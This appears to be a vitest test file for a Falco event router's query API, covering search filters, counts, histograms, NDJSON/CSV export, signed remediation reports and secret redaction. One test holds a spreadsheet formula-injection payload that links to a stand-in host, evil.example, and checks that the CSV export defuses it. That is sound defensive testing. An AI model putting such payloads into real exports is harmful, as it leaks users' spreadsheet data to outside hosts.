import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RemediationRecord } from '@falconer/contracts';
import { Receiver } from '@falconer/testing';
import type { RouterApp } from '../app';
import { LiveHub } from '../live/live.hub';
import { signBody } from './remediation-signature';
import { ago, boot, falcoJson, ingest } from './query.testing';

const uuidOf = (i: number): string => `10000000-0000-4000-8000-${String(i).padStart(12, '0')}`;

describe('query API (memory store)', () => {
  let router: RouterApp;
  let base: string;
  const events = [
    falcoJson(1, { priority: 'Critical', rule: 'Rule B', tags: ['alpha', 'beta'], ns: 'shop' }),
    falcoJson(2, { priority: 'Error', tags: ['beta'], ns: 'payments', host: 'node-2' }),
    falcoJson(3, { output: 'a <b>special</b> & "quoted" line' }),
    falcoJson(4, { priority: 'Warning', rule: 'Rule B', minutes: 90, tags: [] }),
    falcoJson(5, { priority: 'Debug', minutes: 60 * 30 }),
  ];

  const get = async (
    path: string,
  ): Promise<{ status: number; type: string; text: string; json: () => unknown }> => {
    const res = await fetch(`${base}${path}`);
    const text = await res.text();
    return {
      status: res.status,
      type: res.headers.get('content-type') ?? '',
      text,
      json: () => JSON.parse(text),
    };
  };

  beforeAll(async () => {
    ({ router, base } = await boot());
    await ingest(base, events);
  });
  afterAll(async () => {
    await router.close();
  });

  it('searches newest first in the falcosidekick-ui shape, numbers byte for byte', async () => {
    const r = await get('/api/v1/events/search?priority=critical');
    expect(r.status).toBe(200);
    expect(r.type).toMatch(/^application\/json/);
    expect(r.text).toBe(
      `{"results":[{"uuid":"${uuidOf(1)}","output":"event number 1","priority":"Critical","rule":"Rule B","time":"${ago(1)}",` +
        `"output_fields":{"evt.time":1763812800000000001,"k8s.ns.name":"shop","k8s.pod.name":"pod-1","proc.name":"proc-1"},"source":"syscall","tags":["alpha","beta"],"hostname":"node-1"}],` +
        `"statistics":{"returned":1,"all":1}}`,
    );
    const all = (await get('/api/v1/events/search')).json() as {
      statistics: { all: number };
      results: { uuid: string }[];
    };
    expect(all.statistics.all).toBe(5);
    expect(all.results.map((e) => e.uuid)).toEqual([1, 2, 3, 4, 5].map(uuidOf));
  });

  it('takes every falcosidekick-ui parameter: comma = OR, combinations, since, filter, page and limit', async () => {
    const ids = async (qs: string): Promise<string[]> =>
      ((await get(`/api/v1/events/search?${qs}`)).json() as { results: { uuid: string }[] }).results.map(
        (e) => e.uuid,
      );
    expect(await ids('priority=Critical,Error')).toEqual([1, 2].map(uuidOf));
    expect(await ids('priority=Critical&priority=Warning')).toEqual([1, 4].map(uuidOf));
    expect(await ids('rule=Rule%20B')).toEqual([1, 4].map(uuidOf));
    expect(await ids('tags=beta&hostname=node-2')).toEqual([2].map(uuidOf));
    expect(await ids('source=syscall&since=2h')).toEqual([1, 2, 3, 4].map(uuidOf));
    expect(await ids('since=10m&tags=alpha,beta')).toEqual([1, 2, 3].map(uuidOf));
    expect(await ids('namespace=shop,payments')).toEqual([1, 2].map(uuidOf));
    expect(await ids('filter=SPECIAL%3C%2Fb%3E')).toEqual([3].map(uuidOf));
    expect(await ids('filter=proc-4')).toEqual([4].map(uuidOf));
    expect(await ids('limit=2&page=2')).toEqual([3, 4].map(uuidOf));
    const p = (await get('/api/v1/events/search?limit=2&page=3')).json() as {
      statistics: { all: number };
      results: unknown[];
    };
    expect(p.statistics.all).toBe(5);
    expect(p.results).toHaveLength(1);
  });

  it('reads page, limit and null as falcosidekick-ui does; a page over 1000 is streamed, same bytes', async () => {
    const text = async (qs: string): Promise<string> => (await get(`/api/v1/events/search?${qs}`)).text;
    const first = await text('page=1&limit=2');
    expect(await text('page=0&limit=2')).toBe(first);
    expect(await text('page=-3&limit=2')).toBe(first);
    expect(await text('limit=0')).toBe(await text(''));
    expect(await text('limit=-1&page=null')).toBe(await text(''));
    const nulls = 'source=null&hostname=null&priority=null&rule=null&filter=null&tags=null&since=null';
    expect(await text(nulls)).toBe(await text(''));
    expect(await text('source=&hostname=&priority=&rule=&filter=&tags=&since=')).toBe(await text(''));
    // the streamed path (limit > 1000) answers what the in-memory one does
    expect(await text('limit=10000&page=0&since=24h')).toBe(await text('limit=1000&since=24h'));
    expect(await text('limit=1001&page=1&priority=Critical,Error')).toBe(
      await text('limit=1000&priority=Critical,Error'),
    );
    expect(await text('limit=1001&page=2')).toBe('{"results":[],"statistics":{"all":5}}');
    expect(await text('limit=3&page=2')).toMatch(/"statistics":\{"returned":2,"all":5\}\}$/);
  });

  it("answers the API under the dashboard's base path too (falcosidekick-ui's frontend calls <page>api/v1)", async () => {
    for (const path of [
      '/events/search?since=24h&page=0&limit=500',
      '/events/count/priority',
      '/outputs',
      '/healthz',
    ]) {
      const under = await get(`/ui/api/v1${path}`);
      expect(under.status, path).toBe(200);
      expect(under.text, path).toBe((await get(`/api/v1${path}`)).text);
    }
    expect((await get('/ui/api/v1/events/count/color')).json()).toMatchObject({ field: 'groupby' });
    expect((await get('/uiapi/v1/healthz')).status).toBe(404);
  });

  it('answers 400 with a JSON reason for a bad parameter', async () => {
    const cases: [string, string][] = [
      ['/api/v1/events/search?since=banana', 'since'],
      ['/api/v1/events/search?limit=lots', 'limit'],
      ['/api/v1/events/search?page=two', 'page'],
      ['/api/v1/events/count?priority=urgent', 'priority'],
      ['/api/v1/events/count/color', 'groupby'],
      ['/api/v1/events/histogram?interval=soon', 'interval'],
      ['/api/v1/events/histogram?interval=1s&since=7d', 'interval'],
      ['/api/v1/events/export?from=yesterday', 'from'],
      ['/api/v1/events/export?format=xml', 'format'],
    ];
    for (const [path, field] of cases) {
      const r = await get(path);
      expect(r.status, path).toBe(400);
      expect(r.type).toMatch(/^application\/json/);
      expect(r.json()).toMatchObject({ error: 'invalid_parameter', field });
      expect((r.json() as { message: string }).message).toMatch(new RegExp(`^${field}: `));
    }
  });

  it('counts, and counts by group with tags split', async () => {
    expect((await get('/api/v1/events/count')).json()).toEqual({ statistics: { all: 5 } });
    expect((await get('/api/v1/events/count?rule=Rule%20B&since=1h')).json()).toEqual({
      statistics: { all: 1 },
    });
    expect((await get('/api/v1/events/count/priority?since=2h')).json()).toEqual({
      results: { Critical: 1, Error: 1, Notice: 1, Warning: 1 },
      statistics: { all: 4, distincts: 4 },
    });
    expect((await get('/api/v1/events/count/tags')).json()).toEqual({
      results: { alpha: 3, beta: 2 },
      statistics: { all: 5, distincts: 2 },
    });
    expect((await get('/api/v1/events/count/k8s.ns.name')).json()).toEqual({
      results: { shop: 1, payments: 1 },
      statistics: { all: 2, distincts: 2 },
    });
    expect((await get('/api/v1/events/count/hostname?priority=Error')).json()).toEqual({
      results: { 'node-2': 1 },
      statistics: { all: 1, distincts: 1 },
    });
    expect((await get('/api/v1/events/count/rule?rule=Nothing')).text).toBe(
      '{"results":{},"statistics":{"all":0}}',
    );
  });

  it('draws a histogram per bucket and priority', async () => {
    const h = (await get('/api/v1/events/histogram?since=3h&interval=1d')).json() as {
      interval: string;
      buckets: { time: string; counts: Record<string, number> }[];
    };
    expect(h.interval).toBe('86400s');
    const total = h.buckets.reduce((n, b) => n + Object.values(b.counts).reduce((a, c) => a + c, 0), 0);
    expect(total).toBe(4);
    const auto = (await get('/api/v1/events/histogram?since=2h')).json() as { interval: string };
    expect(auto.interval).toBe('60s');
  });

  it('shows one event with deliveries and remediations, 404 for an unknown uuid', async () => {
    const r = await get(`/api/v1/events/${uuidOf(2)}`);
    expect(r.status).toBe(200);
    expect(r.text).toMatch(
      /^\{"event":\{"uuid":"10000000-0000-4000-8000-000000000002",.*"evt\.time":1763812800000000002,.*\},"deliveries":\[\],"remediations":\[\],"triage":\{"state":"new"\},"triageHistory":\[\],"routing":\{"receivedAt":"[^"]+","matched":\[\],"filtered":\[\]\},"attempts":\[\]\}$/,
    );
    const missing = await get('/api/v1/events/00000000-dead-beef-0000-000000000000');
    expect(missing.status).toBe(404);
    expect(missing.json()).toMatchObject({ error: 'not_found' });
  });

  it('exports NDJSON and CSV, streamed', async () => {
    const nd = await get('/api/v1/events/export?priority=Critical,Error,Notice');
    expect(nd.status).toBe(200);
    expect(nd.type).toMatch(/^application\/x-ndjson/);
    const lines = nd.text.trimEnd().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[0]).toContain('"evt.time":1763812800000000001');
    const csv = await get('/api/v1/events/export?format=csv&since=2h');
    expect(csv.type).toMatch(/^text\/csv/);
    const rows = csv.text.trimEnd().split('\r\n');
    expect(rows[0]).toBe('time,uuid,priority,rule,source,hostname,tags,output,output_fields');
    expect(rows).toHaveLength(5);
    expect(rows[1]).toBe(
      `${ago(1)},${uuidOf(1)},Critical,Rule B,syscall,node-1,"alpha,beta",event number 1,` +
        `"{""evt.time"":1763812800000000001,""k8s.ns.name"":""shop"",""k8s.pod.name"":""pod-1"",""proc.name"":""proc-1""}"`,
    );
    expect(rows[3]).toContain(`,"a <b>special</b> & ""quoted"" line",`);
  });

  it('lists the configured outputs and the redacted configuration', async () => {
    expect((await get('/api/v1/outputs')).json()).toEqual([]);
    expect((await get('/api/v1/outputs/status')).json()).toEqual({ outputs: [] });
    const c = (await get('/api/v1/configuration')).json() as {
      listenport: number;
      store: { maxevents: number };
    };
    expect(c.listenport).toBe(0);
    expect(c.store.maxevents).toBe(100_000);
  });

  it('stores an unsigned remediation report (no secret configured) and pushes it live', async () => {
    const hub = router.app.get(LiveHub);
    const pushed: RemediationRecord[] = [];
    const original = hub.remediation.bind(hub);
    hub.remediation = (r: RemediationRecord) => {
      pushed.push(r);
      original(r);
    };
    const record: RemediationRecord = {
      uuid: uuidOf(1),
      rule: 'Rule B',
      action: 'delete_pod',
      outcome: 'acted',
      target: { namespace: 'shop', pod: 'pod-1' },
      at: new Date().toISOString(),
    };
    const res = await fetch(`${base}/api/v1/remediations`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(record),
    });
    expect(res.status).toBe(200);
    expect(pushed).toEqual([record]);
    const d = (await get(`/api/v1/events/${uuidOf(1)}`)).json() as { remediations: RemediationRecord[] };
    expect(d.remediations).toEqual([record]);
    const unknown = await fetch(`${base}/api/v1/remediations`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...record, uuid: 'nope' }),
    });
    expect(unknown.status).toBe(404);
    const bad = await fetch(`${base}/api/v1/remediations`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...record, outcome: 'maybe' }),
    });
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ error: 'invalid_body', field: 'outcome' });
    const junk = await fetch(`${base}/api/v1/remediations`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{',
    });
    expect(junk.status).toBe(400);
  });
});

describe('CSV export of attacker-controlled text', () => {
  it('makes a cell that starts like a spreadsheet formula plain text', async () => {
    const { router, base } = await boot({ STORE_TTL: '0' });
    try {
      await ingest(base, [
        falcoJson(1, { output: '=HYPERLINK("http://evil.example/?"&A1,"open")' }),
        falcoJson(2, { output: '-2+3 @x' }),
      ]);
      const res = await fetch(`${base}/api/v1/events/export?format=csv`);
      const rows = (await res.text()).trimEnd().split('\r\n');
      expect(rows).toHaveLength(3);
      expect(rows.join('\n')).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",`);
      expect(rows.join('\n')).toContain(`,'-2+3 @x,`);
    } finally {
      await router.close();
    }
  });
});

describe('remediation reports with a shared secret', () => {
  let router: RouterApp;
  let base: string;
  const secret = 'remediation-test-secret';

  beforeAll(async () => {
    ({ router, base } = await boot({ REMEDIATION_SECRET: secret }));
    await ingest(base, [falcoJson(7, { priority: 'Critical' })]);
  });
  afterAll(async () => {
    await router.close();
  });

  it('accepts a valid signature over the exact bytes and refuses anything else', async () => {
    const body = `{"uuid":"${uuidOf(7)}","rule":"Rule A","action":"delete_pod","outcome":"dry_run","at":"2026-11-22T12:00:00Z"}`;
    const post = (headers: Record<string, string>, b = body): Promise<Response> =>
      fetch(`${base}/api/v1/remediations`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...headers },
        body: b,
      });
    expect((await post({ 'x-falconer-signature': signBody(secret, body) })).status).toBe(200);
    const missing = await post({});
    expect(missing.status).toBe(401);
    expect(await missing.json()).toMatchObject({
      error: 'unauthorized',
      message: 'missing X-Falconer-Signature header',
    });
    expect((await post({ 'x-falconer-signature': signBody('other', body) })).status).toBe(401);
    expect(
      (await post({ 'x-falconer-signature': signBody(secret, body) }, body.replace('dry_run', 'acted')))
        .status,
    ).toBe(401);
    expect(
      (await post({ 'x-falconer-signature': signBody(secret, body, Math.floor(Date.now() / 1000) - 3600) }))
        .status,
    ).toBe(401);
    // rotation: the old and the new secret side by side (another second: the first signature is spent)
    const t = Math.floor(Date.now() / 1000) - 1;
    const rotated = `${signBody('old-secret', body, t)},v1=${signBody(secret, body, t).split('v1=')[1] ?? ''}`;
    expect((await post({ 'x-falconer-signature': rotated })).status).toBe(200);
    const d = (await (await fetch(`${base}/api/v1/events/${uuidOf(7)}`)).json()) as {
      remediations: unknown[];
    };
    expect(d.remediations).toHaveLength(2);
  });
});

describe('outputs with the delivery layer', () => {
  let router: RouterApp;
  let base: string;
  let rx: Receiver;

  beforeAll(async () => {
    rx = await Receiver.start(() => ({ status: 200 }));
    ({ router, base } = await boot({
      WEBHOOK_ADDRESS: `${rx.url}/hook`,
      WEBHOOK_MINIMUMPRIORITY: 'error',
      // issue 20 finding 9: every header value and every declared secret is hidden from the API
      WEBHOOK_CUSTOMHEADERS: 'Cookie:session=c00kie-value,X-Api-Key:k3y-value',
      WEBHOOK_SIGNING_SECRET: 'signing-s3cret',
    }));
  });
  afterAll(async () => {
    await router.close();
    await rx.close();
  });

  it('lists each output with its filter in words, merged with live delivery counters, and records deliveries', async () => {
    await ingest(base, [falcoJson(31, { priority: 'Critical' }), falcoJson(32, { priority: 'Debug' })]);
    await rx.waitFor(1);
    let out: {
      outputs: { name: string; type: string; filter: string; enabled: boolean; counters: { sent: number } }[];
    } = { outputs: [] };
    for (let i = 0; i < 50; i++) {
      out = (await (await fetch(`${base}/api/v1/outputs/status`)).json()) as typeof out;
      if ((out.outputs[0]?.counters.sent ?? 0) >= 1) break;
      await new Promise((r) => setTimeout(r, 100));
    }
    expect(out.outputs).toHaveLength(1);
    expect(out.outputs[0]).toMatchObject({
      name: 'webhook',
      type: 'webhook',
      enabled: true,
      counters: { sent: 1 },
    });
    expect(out.outputs[0]?.filter).toMatch(/error/i);
    const d = (await (await fetch(`${base}/api/v1/events/10000000-0000-4000-8000-000000000031`)).json()) as {
      deliveries: { output: string; state: string }[];
    };
    expect(d.deliveries).toEqual([expect.objectContaining({ output: 'webhook', state: 'delivered' })]);
    const c = (await (await fetch(`${base}/api/v1/configuration`)).json()) as {
      outputs: { settings: { address: string } }[];
    };
    const text = JSON.stringify(c);
    expect(text).not.toContain('/hook');
    for (const secret of ['c00kie-value', 'k3y-value', 'signing-s3cret']) expect(text).not.toContain(secret);
    expect(text).toContain('***');
  });
});
